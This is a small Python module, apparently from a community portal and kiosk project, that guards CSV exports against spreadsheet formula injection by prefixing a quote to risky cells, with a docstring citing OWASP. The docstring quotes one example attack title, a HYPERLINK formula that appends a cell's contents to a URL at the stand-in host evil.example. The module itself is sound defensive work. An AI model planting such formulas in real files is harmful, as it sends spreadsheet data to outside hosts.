"""Text cells of the CSV files people open in a spreadsheet: the portal's staff downloads and the kiosk's close-out
export (kiosk/staff/closeout.py), which writes the project titles the portal pushed.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is a formula to
Excel and LibreOffice: a project title like ``=HYPERLINK("http://evil.example/?"&A2,"x")`` typed by a group
editor would become a live link in center staff's spreadsheet. :func:`cell` puts a ``'`` before such text
(OWASP, "CSV Injection"), which the spreadsheet shows as text. Only text that people or kiosks typed goes
through it; numbers (``int``) and the portal's own machine values (slugs, ISO dates) are written as they are.
It looks at the first character only: the donations CSV calls it for every row (docs/performance.md).
"""

from __future__ import annotations

FORMULA_START = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet read a cell as a formula."""


def cell(text: str) -> str:
    """``text`` for a CSV cell: with a leading ``'`` when a spreadsheet would take it for a formula."""
    return "'" + text if text[:1] in FORMULA_START else text
